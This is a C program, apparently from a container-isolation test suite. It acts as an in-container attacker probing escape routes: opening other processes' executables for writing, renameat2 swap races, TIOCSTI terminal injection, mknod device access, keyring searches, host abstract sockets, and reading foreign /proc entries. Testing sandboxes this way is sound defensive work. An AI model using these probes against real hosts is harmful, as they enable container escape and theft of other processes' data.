// What an attacker in a container runs: attacker VERB ARGUMENTS…, for a number of seconds or once. Prints counts.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec + time.tv_nsec / 1e9;
}

// Opens the program of every process that shows, and keeps those of foreign file systems to try again when they have ended.
static int open_programs(double seconds) {
  struct stat own, self;
  static int kept[256];
  long tries = 0, seen = 0, opened = 0, count = 0;
  if (stat("/", &own) || stat("/proc/self/exe", &self)) return 1;
  for (double end = now() + seconds; now() < end;) {
    DIR *folder = opendir("/proc");
    for (struct dirent *entry; folder && (entry = readdir(folder));) {
      char path[64];
      struct stat status;
      if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
      snprintf(path, sizeof path, "/proc/%.20s/exe", entry->d_name);
      int file = open(path, O_WRONLY);
      tries++;
      if (file >= 0) {
        opened++;
        close(file);
      }
      file = open(path, O_PATH);
      if (file < 0) continue;
      if (fstat(file, &status) || status.st_dev == own.st_dev ||
          (status.st_dev == self.st_dev && status.st_ino == self.st_ino)) {
        close(file);
        continue;
      }
      seen++;
      if (kept[count % 256]) close(kept[count % 256]);
      kept[count++ % 256] = file;
    }
    if (folder) closedir(folder);
    for (int i = 0; i < 256; i++) {
      char path[64];
      if (!kept[i]) continue;
      snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
      int file = open(path, O_WRONLY);
      tries++;
      if (file < 0) continue;
      opened++;
      close(file);
    }
  }
  printf("tries %ld foreign %ld opened %ld\n", tries, seen, opened);
  return 0;
}

// Two names take each other's place, over and over.
static int swap(const char *left, const char *right, double seconds) {
  long count = 0;
  for (double end = now() + seconds; now() < end; count++)
    if (syscall(SYS_renameat2, AT_FDCWD, left, AT_FDCWD, right, 2)) usleep(100);
  printf("swapped %ld\n", count);
  return 0;
}

static int terminal_input(const char *text) {
  int put = 0;
  for (int descriptor = 0; descriptor < 3; descriptor++)
    for (const char *at = text; *at; at++) put += ioctl(descriptor, TIOCSTI, at) == 0;
  int terminal = open("/dev/tty", O_RDWR);
  for (const char *at = text; terminal >= 0 && *at; at++) put += ioctl(terminal, TIOCSTI, at) == 0;
  printf("put %d\n", put);
  return 0;
}

// Makes nodes of all the numbers given as KIND:MAJOR:MINOR and opens them.
static int open_nodes(int count, char **nodes) {
  int opened = 0;
  for (int i = 0; i < count; i++) {
    unsigned major_number, minor_number;
    char kind;
    if (sscanf(nodes[i], "%c:%u:%u", &kind, &major_number, &minor_number) != 3) return 1;
    static const int modes[] = {O_RDONLY | O_NONBLOCK, O_WRONLY | O_NONBLOCK, O_RDWR | O_NONBLOCK};
    unlink("/tmp/node");
    if (mknod("/tmp/node", (kind == 'b' ? S_IFBLK : S_IFCHR) | 0666, makedev(major_number, minor_number))) continue;
    for (int mode = 0; mode < 3; mode++) {
      int file = open("/tmp/node", modes[mode]);
      if (file < 0) continue;
      printf("%s opens\n", nodes[i]);
      opened++;
      close(file);
    }
  }
  printf("nodes %d opened %d\n", count, opened);
  return 0;
}

// Looks for a key of the caller in every keyring that a process has.
static int search_key(const char *name) {
  static const long rings[] = {-1, -2, -3, -4, -5};
  int found = 0;
  for (int i = 0; i < 5; i++) found += syscall(SYS_keyctl, 10, rings[i], "user", name, 0) > 0;
  found += syscall(SYS_request_key, "user", name, NULL, 0L) > 0;
  printf("found %d\n", found);
  return 0;
}

// Connects to every abstract socket of the network namespace whose name has `word`.
static int connect_sockets(const char *word) {
  FILE *table = fopen("/proc/net/unix", "r");
  char line[512];
  int named = 0, connected = 0;
  while (table && fgets(line, sizeof line, table)) {
    char *name = strchr(line, '@');
    if (!name || !strstr(name, word)) continue;
    name[strcspn(name, "\n")] = 0;
    named++;
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    size_t length = strlen(name) - 1;
    if (length > sizeof address.sun_path - 1) continue;
    memcpy(address.sun_path + 1, name + 1, length);
    int file = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    connected += connect(file, (struct sockaddr *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + length) == 0;
    close(file);
  }
  printf("named %d connected %d\n", named, connected);
  return 0;
}

// What can be told of foreign processes: their program, root, folder, memory, descriptors.
static int look_at(int count, char **pids) {
  static const char *const names[] = {"exe", "root", "cwd", "mem", "environ", "ns/mnt", "fd/0", "fd/3"};
  int seen = 0;
  for (int i = 0; i < count; i++)
    for (int name = 0; name < 8; name++) {
      char path[64], target[PATH_MAX];
      snprintf(path, sizeof path, "/proc/%s/%s", pids[i], names[name]);
      int file = open(path, O_RDONLY);
      if (file < 0 && readlink(path, target, sizeof target) < 0) continue;
      char byte;
      // Some open for anyone and say no when read.
      if (file >= 0 && read(file, &byte, 1) < 0 && errno != EISDIR) continue;
      printf("%s can be seen\n", path);
      seen++;
    }
  printf("looked %d seen %d\n", count * 8, seen);
  return 0;
}

int main(int count, char **arguments) {
  if (count < 3) return 64;
  const char *verb = arguments[1];
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (!strcmp(verb, "programs")) return open_programs(atof(arguments[2]));
  if (!strcmp(verb, "swap") && count == 5) return swap(arguments[2], arguments[3], atof(arguments[4]));
  if (!strcmp(verb, "input")) return terminal_input(arguments[2]);
  if (!strcmp(verb, "nodes")) return open_nodes(count - 2, arguments + 2);
  if (!strcmp(verb, "key")) return search_key(arguments[2]);
  if (!strcmp(verb, "sockets")) return connect_sockets(arguments[2]);
  if (!strcmp(verb, "look")) return look_at(count - 2, arguments + 2);
  return 64;
}
